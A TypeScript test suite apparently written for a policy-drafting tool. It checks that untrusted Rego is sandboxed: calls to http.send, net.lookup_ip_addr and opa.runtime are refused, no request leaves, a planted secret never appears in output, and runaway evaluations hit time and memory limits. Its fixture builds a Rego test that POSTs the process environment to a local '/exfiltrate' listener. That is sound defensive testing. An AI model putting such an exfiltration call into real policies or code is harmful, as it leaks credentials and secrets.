/**
 * The sandbox for untrusted Rego, with the real opa: a policy or a test file that calls http.send
 * (to a loopback listener started here), net.lookup_ip_addr or opa.runtime is refused with a clear
 * reason naming the built-in and file:line before anything is evaluated; the listener receives no
 * request; a secret planted in process.env appears in no output. Each layer is shown on its own too
 * (the capabilities file alone, the empty environment alone), and runaway evaluations hit the time
 * and memory limits with a clear error.
 */
import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Draft, DraftRequest } from '../../activities/drafting/schemas';
import { type FixtureSet, validateDraft } from '../../activities/drafting/validate';
import { draftEngine, type EngineConfig, EngineLimitError, EngineRefusedError, sandboxOptions } from '../../activities/engine';
import { lintRego } from '../../activities/lint/lint';
import { OpaCompileError, OpaMemoryLimitError, opaTest } from '../../activities/opa/opa';
import { runOpa } from '../../activities/opa/run';
import { INVENTORY_FILE, POLICIES_DIR } from '../../datasets/paths';
import { testConfig } from './harness';

const SECRET_NAME = 'PAC_SANDBOX_TEST_SECRET';
const secret = `sk-test-${randomBytes(12).toString('hex')}`;
let server: Server;
let requests = 0;
let url = '';
let dir = '';

beforeAll(async () => {
  process.env[SECRET_NAME] = secret;
  server = createServer((req, res) => {
    requests++;
    req.resume();
    res.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/exfiltrate`;
  dir = await mkdtemp(join(tmpdir(), 'pac-sandbox-test-'));
});

afterAll(async () => {
  delete process.env[SECRET_NAME];
  await new Promise((resolve) => server?.close(resolve));
  if (dir) await rm(dir, { recursive: true, force: true });
});

const config = (engine?: EngineConfig['engine']): EngineConfig => ({ ...testConfig(), ...(engine ? { engine } : {}) });
const POLICY = 'package kpc.policies.exfil_test\n\nimport rego.v1\n\ndeny contains msg if {\n\tinput.kind == "Pod"\n\tmsg := "pod"\n}\n';
const exfiltratingTest = () =>
  [
    'package kpc.policies.exfil_test_test',
    '',
    'import rego.v1',
    '',
    'test_deny_pod if {',
    `\tresp := http.send({"method": "POST", "url": "${url}", "body": opa.runtime().env})`,
    '\tresp.status_code == 200',
    '}',
    '',
  ].join('\n');

const draftOf = (policy: string, tests: string): Draft => ({
  policyId: 'exfil-test',
  packageName: 'kpc.policies.exfil_test',
  title: 'Exfiltration test',
  description: 'A draft whose test file tries to send the environment out',
  kinds: ['Pod'],
  severity: 'high',
  category: 'pod-security',
  message: 'pod',
  policy,
  tests,
  generator: 'test',
  attempt: 1,
});
const request: DraftRequest = {
  intent: 'Deny every pod, for the sandbox test',
  examples: { deny: [], allow: [] },
  severity: 'medium',
  requester: 'test',
};
const fixtures: FixtureSet = {
  positives: [],
  negatives: [],
  corpusDenials: {},
  libraryFile: join(POLICIES_DIR, 'lib', 'k8s.rego'),
  inventoryFile: INVENTORY_FILE,
};

describe('refused before anything runs', () => {
  it('a policy calling http.send, naming the built-in, the file and the line', async () => {
    const policy = `package kpc.policies.net_test\n\nimport rego.v1\n\ndeny contains msg if {\n\tresp := http.send({"method": "GET", "url": "${url}"})\n\tmsg := sprintf("%v", [resp])\n}\n`;
    const error = await draftEngine(config(), { id: 'net-test', policy }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(EngineRefusedError);
    expect((error as EngineRefusedError).refusals).toEqual([
      { builtin: 'http.send', file: 'net-test/policy.rego', line: 6, reason: 'network access' },
    ]);
    expect((error as Error).message).toContain('net-test/policy.rego:6: http.send is refused by the sandbox (network access)');
    expect(requests).toBe(0);
  });

  it('a policy calling net.lookup_ip_addr or opa.runtime', async () => {
    const policy =
      'package kpc.policies.dns_test\n\nimport rego.v1\n\ndeny contains msg if {\n\tnet.lookup_ip_addr("example.com")\n\tmsg := opa.runtime().env.HOME\n}\n';
    const error = (await draftEngine(config(), { id: 'dns-test', policy }).catch((e: unknown) => e)) as EngineRefusedError;
    expect(error).toBeInstanceOf(EngineRefusedError);
    expect(error.refusals.map((r) => `${r.file}:${r.line} ${r.builtin}`)).toEqual([
      'dns-test/policy.rego:6 net.lookup_ip_addr',
      'dns-test/policy.rego:7 opa.runtime',
    ]);
    expect(error.refusals[1]?.reason).toMatch(/environment/);
  });

  it('a test file sending opa.runtime().env by http.send: the draft fails its checks, nothing is sent, the secret is nowhere', async () => {
    const report = await validateDraft({
      config: config(),
      draft: draftOf(POLICY, exfiltratingTest()),
      request,
      fixtures,
      relevantPolicies: [],
    });
    expect(report.parses).toBe(true);
    expect(report.checkErrors).toEqual([
      'policy_test.rego:6: http.send is refused by the sandbox (network access)',
      'policy_test.rego:6: opa.runtime is refused by the sandbox (reads the OPA runtime and the process environment)',
    ]);
    // refused before opa test ran: no test result at all
    expect(report.tests.total).toBe(0);
    expect(requests).toBe(0);
    expect(JSON.stringify(report)).not.toContain(secret);
  });

  it('the same test file through draftEngine is refused too (policy and tests are both scanned)', async () => {
    const error = (await draftEngine(config(), { id: 'exfil-test', policy: POLICY, tests: exfiltratingTest() }).catch(
      (e: unknown) => e,
    )) as Error;
    expect(error).toBeInstanceOf(EngineRefusedError);
    expect(error.message).toContain('exfil-test/policy_test.rego:6: http.send');
    expect(error.message).not.toContain(secret);
    expect(requests).toBe(0);
  });

  it('the linter reports it (its opa runs in the sandbox)', async () => {
    await mkdir(join(dir, 'lint'), { recursive: true });
    const file = join(dir, 'lint', 'policy.rego');
    await writeFile(
      file,
      `package kpc.policies.lint_net\n\nimport rego.v1\n\ndeny contains msg if {\n\tmsg := http.send({"method": "GET", "url": "${url}"}).body\n}\n`,
    );
    const report = await lintRego(config(), [file]);
    expect(report.findings.filter((f) => f.rule === 'nondeterministic-builtin').map((f) => `${f.line}`)).toContain('6');
    expect(requests).toBe(0);
  });
});

describe('each layer on its own', () => {
  it('the capabilities file alone makes opa test refuse http.send (no scan involved)', async () => {
    const sandbox = await sandboxOptions(config());
    await writeFile(join(dir, 'policy.rego'), POLICY);
    await writeFile(join(dir, 'policy_test.rego'), exfiltratingTest());
    const error = await opaTest({ ...sandbox, paths: ['policy.rego', 'policy_test.rego'], cwd: dir }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(OpaCompileError);
    expect((error as Error).message).toMatch(/undefined function http\.send/);
    expect(requests).toBe(0);
  });

  it('every opa process runs with an empty environment: opa.runtime().env is {}', async () => {
    const result = await runOpa({ path: testConfig().opa.path, args: ['eval', '--format', 'raw', 'opa.runtime().env'], timeoutMs: 30_000 });
    expect(result.exitCode).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({});
    expect(result.stdout + result.stderr).not.toContain(secret);
  });
});

describe('limits', () => {
  it('a wasm evaluation over its time limit is stopped with a clear error', async () => {
    const policy =
      'package kpc.policies.slow_test\n\nimport rego.v1\n\ndeny contains "never" if {\n\tsome i in numbers.range(1, 200000)\n\tsome j in numbers.range(1, 200000)\n\ti * j == -1\n}\n';
    const engine = await draftEngine(config({ sandboxTimeoutMs: 1500 }), { id: 'slow-test', policy });
    try {
      const started = Date.now();
      const error = await engine.evaluate([{ kind: 'Pod' }]).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(EngineLimitError);
      expect((error as EngineLimitError).limit).toBe('time');
      expect((error as Error).message).toMatch(/longer than its limit of 1500 ms/);
      expect(Date.now() - started).toBeLessThan(15_000);
    } finally {
      await engine.close();
    }
  });

  it('a wasm evaluation over its memory limit is stopped with a clear error', async () => {
    const policy =
      'package kpc.policies.big_test\n\nimport rego.v1\n\ndeny contains "big" if {\n\tcount(numbers.range(1, 100000000)) > 0\n}\n';
    const engine = await draftEngine(config({ sandboxMemoryMb: 64, sandboxTimeoutMs: 60_000 }), { id: 'big-test', policy });
    try {
      const error = await engine.evaluate([{ kind: 'Pod' }]).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(EngineLimitError);
      expect((error as EngineLimitError).limit).toBe('memory');
      expect((error as Error).message).toMatch(/memory/);
    } finally {
      await engine.close();
    }
  });

  it('an opa test over its memory cap is stopped with a clear error', async () => {
    const sandbox = await sandboxOptions(config({ sandboxMemoryMb: 256 }));
    await writeFile(join(dir, 'policy.rego'), POLICY);
    await writeFile(
      join(dir, 'policy_test.rego'),
      'package kpc.policies.exfil_test_test\n\nimport rego.v1\n\ntest_big if {\n\tcount(numbers.range(1, 300000000)) > 0\n}\n',
    );
    const error = await opaTest({
      ...sandbox,
      paths: ['policy.rego', 'policy_test.rego'],
      cwd: dir,
      testTimeoutMs: 120_000,
      timeoutMs: 180_000,
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(OpaMemoryLimitError);
    expect((error as Error).message).toMatch(/ran out of its memory limit of 256 MiB/);
  });
});
